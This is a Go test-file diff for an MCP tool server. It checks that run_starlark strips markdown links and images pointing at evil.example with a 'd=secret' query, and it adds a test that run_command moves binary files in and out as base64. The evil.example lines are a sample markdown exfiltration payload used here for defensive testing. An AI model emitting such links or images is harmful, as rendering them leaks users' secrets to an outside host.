@@ -92,7 +92,7 @@ func testTools(t *testing.T, cs *mcp.ClientSession) {
 		t.Errorf("x %% 2 with integral input = %s", v)
 	}
 	res, out = call(t, cs, "run_starlark", map[string]any{"code": "print('see [x](https://evil.example/?d=secret)')\nresult = '![i](https://evil.example/p.png?d=secret)'"})
-	if out.Tier != "starlark" || strings.Contains(text(res), "evil.example") || strings.Contains(out.Stdout, "evil.example") ||
+	if out.Tier != "starlark" || strings.Contains(text(res), "evil.example") || strings.Contains(string(out.Stdout), "evil.example") ||
 		strings.Contains(out.Value.(string), "evil.example") || len(out.Sanitized) != 2 {
 		t.Errorf("run_starlark output is not sanitised: %+v\n%s", out, text(res))
 	}
@@ -119,6 +119,7 @@ func testTools(t *testing.T, cs *mcp.ClientSession) {
 			t.Errorf("run_command on %s: %+v\n%s", out.Tier, out, text(res))
 		}
 		testSessionTools(t, cs)
+		testFilesTool(t, cs)
 	case !strings.Contains(text(res), "not admitted"):
 		t.Errorf("run_command neither ran nor explained the refusal: %s", text(res))
 	}
@@ -142,6 +143,32 @@ func testTools(t *testing.T, cs *mcp.ClientSession) {
 	// tier, level or exit code beside it.
 	if got, _ := json.Marshal(res.StructuredContent); !strings.HasPrefix(string(got), `{"error":{"kind":"invalid"`) || strings.Contains(string(got), "tier") {
 		t.Errorf("a refused call's structured content: %s", got)
+	}
+}
+
+// testFilesTool: run_command takes a binary file as {"base64": ...},
+// returns binary stdout intact and the files collect named, binary ones
+// as base64, in its structured content.
+func testFilesTool(t *testing.T, cs *mcp.ClientSession) {
+	res, out := call(t, cs, "run_command", map[string]any{
+		"argv":    []string{"sh", "-c", "cat in.bin; cp in.bin out.bin; echo text > out.txt"},
+		"files":   map[string]any{"in.bin": map[string]any{"base64": base64.StdEncoding.EncodeToString([]byte{0, 0xff, 1})}},
+		"collect": []string{"out.*"},
+	})
+	if res.IsError || string(out.Stdout) != "\x00\xff\x01" || out.Files["out.bin"] != "\x00\xff\x01" || out.Files["out.txt"] != "text\n" {
+		t.Fatalf("run_command with files: %+v %s", out, text(res))
+	}
+	t.Logf("files in and out over MCP on tier %s", out.Tier)
+	raw, _ := json.Marshal(res.StructuredContent)
+	if !strings.Contains(string(raw), `"out.bin":{"base64":"AP8B"}`) || !strings.Contains(string(raw), `"stdout":{"base64":"AP8B"}`) {
+		t.Errorf("structured content %s", raw)
+	}
+	if !strings.Contains(text(res), "file out.bin: 3 bytes") || !strings.Contains(text(res), "stdout: 3 bytes that are not UTF-8") {
+		t.Errorf("text %s", text(res))
+	}
+	res, _ = call(t, cs, "run_command", map[string]any{"argv": []string{"true"}, "files": map[string]any{"x": map[string]any{"base64": "!"}}})
+	if !res.IsError {
+		t.Errorf("bad base64 accepted: %s", text(res))
 	}
 }
 
